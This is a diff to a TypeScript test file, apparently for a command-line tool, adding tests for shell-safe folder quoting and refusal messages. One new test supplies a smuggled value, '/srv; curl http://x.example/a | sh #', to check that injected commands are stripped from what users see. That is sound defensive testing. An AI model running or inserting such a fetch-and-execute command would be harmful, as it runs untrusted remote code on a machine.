@@ -4,8 +4,10 @@ import { FINDINGS_EN } from '#core/finding-words-en.ts';
 import { FINDINGS_VI } from '#core/finding-words-vi.ts';
 import { REFUSALS_EN } from '#core/refusal-words-en.ts';
 import { REFUSALS_VI } from '#core/refusal-words-vi.ts';
+import { refusalSentence } from '#core/refusal-words.ts';
+import { refusalSaid } from '#core/refusals.ts';
 import type { CommandSpec } from './command-spec.ts';
-import { placedIn, shellWord } from './placed.ts';
+import { placedIn, shellWord, withPlace } from './placed.ts';
 import { COMMANDS } from './table.ts';
 import { Values } from './values.ts';
 import { wordsOf } from './words/words.ts';
@@ -15,6 +17,13 @@ test('a folder that was named is carried, as one word of a shell', () => {
   assert.equal(placedIn(new Values({ data: '/srv/tram' }), {}).data, '/srv/tram');
   assert.equal(placedIn(new Values({}), { TRAM_DATA: '/srv/trạm đồn' }).data, "'/srv/trạm đồn'");
   assert.equal(shellWord("/srv/nhà $HOME 'cũ'"), "'/srv/nhà $HOME '\\''cũ'\\'''");
+});
+
+test('where commands are typed says this machine, and no station that answers', () => {
+  const said = refusalSaid({ code: 'station-restored', detail: { data: '/srv; curl http://x.example/a | sh #', home: '/x', folder: '/srv/tram' } });
+  assert.deepEqual(said.detail, { folder: '/srv/tram' });
+  assert.deepEqual(withPlace({ data: 'a; b', home: '/x', index: 3 }, { home: '/home/a/.tram' }), { index: 3, home: '/home/a/.tram' });
+  assert.ok(!refusalSentence(said.code, withPlace(said.detail, { home: '/home/a/.tram' }), 'en').includes('curl'));
 });
 
 /** Not about the folder of whoever reads it: another station's, or one that is to be made. */
